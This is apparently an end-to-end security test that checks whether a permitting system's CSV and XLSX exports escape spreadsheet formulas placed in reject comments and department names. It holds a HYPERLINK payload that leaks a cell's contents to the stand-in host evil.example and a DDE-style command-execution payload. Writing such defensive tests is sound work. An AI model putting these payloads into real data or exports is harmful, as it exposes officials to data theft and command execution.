"""Formulas into officials' spreadsheets (issue 20, item 2): a reject comment and a
department name a spreadsheet would evaluate, then every export an official downloads,
over the API and from the pages, read back cell by cell."""
from __future__ import annotations

import csv
import io

import openpyxl

from tests.e2e.attacks.harness import ClassTally, Target

NAME = "formula_injection"
TITLE = "电子表格公式注入：不予许可意见与部门名称中的 = + - @，经 API 与页面导出的 CSV 与 XLSX"
ORDER = 100
COMMENT = '=HYPERLINK("http://evil.example/?leak="&A1,"查看详情")'
DEPARTMENT = "@SUM(1+1)*cmd|' /C calc'!A0"
STARTS = tuple("=+-@\t\r＝＋－＠")
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def evaluated(content: bytes, mimetype: str) -> list[str]:
    if mimetype == XLSX:
        book = openpyxl.load_workbook(io.BytesIO(content))
        return [str(c.value) for s in book.worksheets for row in s.iter_rows() for c in row
                if c.data_type == "f" or (isinstance(c.value, str)
                                          and c.value.lstrip().startswith(STARTS)
                                          and not c.quotePrefix)]
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
    return [v for row in rows for v in row if v.lstrip().startswith(STARTS)]


def run(target: Target, tally: ClassTally) -> None:
    rejected = target.submit("clerk-binhe", 40)
    said = target.decide(rejected, "market", "reject", COMMENT)
    tally.attempt("a formula as a reject comment is taken as text", said.status_code == 200)
    made = target.post("/api/v1/departments", target.person("admin"),
                       json={"code": "formula", "name": DEPARTMENT})
    tally.attempt("a formula as a department name is taken as text", made.status_code == 201)
    supervisor = target.person("supervisor")
    urls = [f"{path}?{query}format={fmt}" for path, query in (
        ("/api/v1/supervision/centers", ""), ("/api/v1/supervision/departments", ""),
        ("/api/v1/supervision/ranking", ""), ("/api/v1/supervision/report", "year=2026&"))
        for fmt in ("csv", "xlsx")]
    for url in urls:
        answer = target.get(url, supervisor)
        mimetype = answer.headers.get("Content-Type", "").split(";")[0]
        found = evaluated(answer.content, mimetype) if answer.status_code == 200 else ["?"]
        tally.attempt(f"API export {url}", not found, f"{answer.status_code} {found[:3]}")
    session, _token = target.page_session("supervisor")
    for kind in ("centers", "departments", "ranking"):
        for fmt in ("csv", "xlsx"):
            answer = session.get(f"{target.base}/dashboard/export/{kind}.{fmt}", timeout=30)
            mimetype = answer.headers.get("Content-Type", "").split(";")[0]
            found = evaluated(answer.content, mimetype) if answer.status_code == 200 else ["?"]
            tally.attempt(f"page export {kind}.{fmt}", not found,
                          f"{answer.status_code} {found[:3]}")
